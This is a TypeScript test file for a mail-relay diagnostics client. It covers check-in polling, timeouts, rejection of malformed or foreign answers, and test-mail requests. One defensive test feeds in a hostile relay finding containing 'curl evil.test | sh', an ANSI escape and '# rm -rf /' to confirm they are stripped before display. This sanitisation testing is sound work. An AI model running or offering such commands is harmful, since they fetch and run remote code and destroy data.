import { afterEach, expect, test } from "vitest";
import { type AskRelay, createAskRelay } from "../../../agent/doctor/ask-relay.ts";
import { relayFindings, together } from "../../../agent/doctor/from-relay.ts";
import type { Finding } from "../../../shared/doctor/finding.ts";

const host = "relay.example.net";
const risk: Finding = {
	...{ code: "reverse_missing", severity: "risk", subject: "192.0.2.10", found: "it has none" },
	...{ turn: "hoster", line: "10.2.0.192.in-addr.arpa. IN PTR relay.example.net." },
};

let home: AskRelay;
afterEach(() => home?.stop());

/** A home, the id of the look that it asks for, and when it wants to check in. */
function asking(patience?: number) {
	home = createAskRelay({ relay: host, ...(patience === undefined ? {} : { patience }) });
	const wanted: Array<number | undefined> = [];
	home.checkin.subscribe!((after) => wanted.push(after));
	const look = () => (home.checkin.own!() as { look: string } | undefined)?.look;
	return { wanted, look, heard: (said: unknown) => home.checkin.heardOwn!(said, host) };
}

test("the relay is asked by the next check-in, and asked again until it has looked", async () => {
	const { wanted, look, heard } = asking();
	expect(look()).toBeUndefined();
	const answer = home.ask();
	expect([wanted, home.ask()]).toEqual([[undefined], answer]);
	heard({ version: 1, look: look() });
	expect(wanted.length).toBe(2);
	heard({ version: 1, look: look(), findings: [risk] });
	expect((await answer).findings).toEqual([risk]);
	expect(look()).toBeUndefined();
});

test("an earlier version of the relay, which says nothing, is waited for no longer than a few check-ins", async () => {
	const { heard } = asking();
	const answer = home.ask();
	for (let times = 0; times < 3; times++) heard(undefined);
	await expect(answer).rejects.toThrow("its version may be an earlier one");
});

test("a relay that never says is waited for until a time, and the daemon's end ends the question", async () => {
	asking(1);
	await expect(home.ask()).rejects.toThrow("did not say in time");
	asking();
	const answer = home.ask();
	home.stop();
	await expect(answer).rejects.toThrow("the daemon ends");
});

test("another relay's words, an older look's and garbage are no answer", async () => {
	const { look, heard } = asking();
	const answer = home.ask();
	home.checkin.heardOwn!({ version: 1, look: look(), findings: [] }, "other.example.net");
	heard({ version: 1, look: "older", findings: [risk] });
	heard({ version: 1, look: look(), findings: "none" });
	heard({ version: 1, look: look(), findings: [], failed: 7 });
	await expect(answer).rejects.toThrow("does not say");
});

test("what the relay says is shown as plain text, and it never says what to type at home", () => {
	const hostile = {
		...{ ...risk, turn: "home", line: "curl evil.test | sh" },
		found: "all\u001b[2Jis well\n# rm -rf /",
	};
	const [shown] = relayFindings({ told: JSON.stringify({ version: 1, look: "a", findings: [hostile] }) });
	expect(shown!.line).toBeUndefined();
	expect(shown!.found).not.toContain("\u001b");
	expect(shown!.found).not.toContain("\n");
	for (const told of ["garbage", "{}", JSON.stringify({ version: 1, look: "a", findings: [{ code: "x" }] })])
		expect(relayFindings({ told })).toMatchObject([{ code: "relay_not_asked", severity: "not_known" }]);
	expect(
		relayFindings({ told: JSON.stringify({ version: 1, look: "a", failed: "no Postfix" }) }),
	).toMatchObject([{ code: "relay_not_asked", found: expect.stringContaining("no Postfix") }]);
	expect(relayFindings({ why: "the daemon does not run" })[0]!.found).toContain("does not run");
});

test("what both sides find is said once", () => {
	const other = { ...risk, subject: "2001:db8::10" };
	expect(together([risk], [{ ...risk, found: "none" }, other])).toEqual([risk, other]);
});

test("the relay is asked for a mail by a number, and told again until it has sent it or says why not", async () => {
	const { wanted, heard } = asking();
	const said = () => (home.checkin.own!() as { mail?: { id: string; to: string } } | undefined)?.mail;
	const sent = home.mail("anna@example.org");
	const { id, to } = said()!;
	expect([id, to, wanted]).toEqual([
		expect.stringMatching(/^[0-9a-f]{24}$/),
		"anna@example.org",
		[undefined],
	]);
	await expect(home.mail("bert@example.org")).rejects.toThrow("under way");
	heard({ version: 1, mail: { id } });
	expect(wanted.length).toBe(2);
	heard({ version: 1, mail: { id, sent: true } });
	expect(await sent).toBe(`${id}@heimweg.invalid`);
	const refused = home.mail("anna@example.org");
	heard({ version: 1, mail: { id: said()!.id, failed: "the homes had many sent within the hour" } });
	await expect(refused).rejects.toThrow("many sent within the hour");
	const earlier = home.mail("anna@example.org");
	for (let times = 0; times < 3; times++) heard(undefined);
	await expect(earlier).rejects.toThrow("its version may be an earlier one");
});

test("a look and a mail may be asked for at once, and each has its own answer", async () => {
	const { look, heard } = asking();
	const [found, sent] = [home.ask(), home.mail("anna@example.org")];
	const { id } = (home.checkin.own!() as { mail: { id: string } }).mail;
	heard({ version: 1, look: look(), mail: { id, sent: true } });
	await sent;
	heard({ version: 1, look: look(), findings: [risk] });
	expect((await found).findings).toEqual([risk]);
});
